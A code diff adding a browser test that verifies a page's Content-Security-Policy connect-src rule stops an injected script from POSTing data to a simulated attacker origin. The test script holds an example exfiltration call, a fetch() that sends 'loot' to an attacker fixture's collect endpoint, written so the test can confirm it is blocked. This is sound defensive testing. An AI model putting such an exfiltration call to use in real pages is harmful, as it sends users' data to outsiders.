@@ -248,6 +248,26 @@ def test_csp_blocks_an_injected_inline_script(tab):
     assert result["ran"] is False and result["blocked"].startswith("script-src"), result
 
 
+def test_csp_blocks_fetch_to_another_origin(tab, attacker):
+    # connect-src 'self': a script in the page cannot fetch() (e.g. send what it
+    # found) to any other origin; the request never leaves the browser.
+    tab.login()
+    target = attacker.url("127.0.0.1") + "collect"
+    result = tab.page.evaluate("""async (url) => {
+        let directive = null;
+        document.addEventListener('securitypolicyviolation', e => { directive = e.violatedDirective; });
+        try {
+            await fetch(url, { method: 'POST', mode: 'no-cors', body: 'loot' });
+            return { sent: true, directive };
+        } catch (e) {
+            await new Promise(r => setTimeout(r, 100));
+            return { sent: false, directive };
+        }
+    }""", target)
+    assert result == {"sent": False, "directive": "connect-src"}, result
+    assert not [r for r in tab.requests if r.url.startswith(attacker.url("127.0.0.1"))]
+
+
 def test_screenshots(tab):
     """The screenshots of docs/demo.md, when CJWT_SCREENSHOTS names a folder."""
     out = os.environ.get("CJWT_SCREENSHOTS")
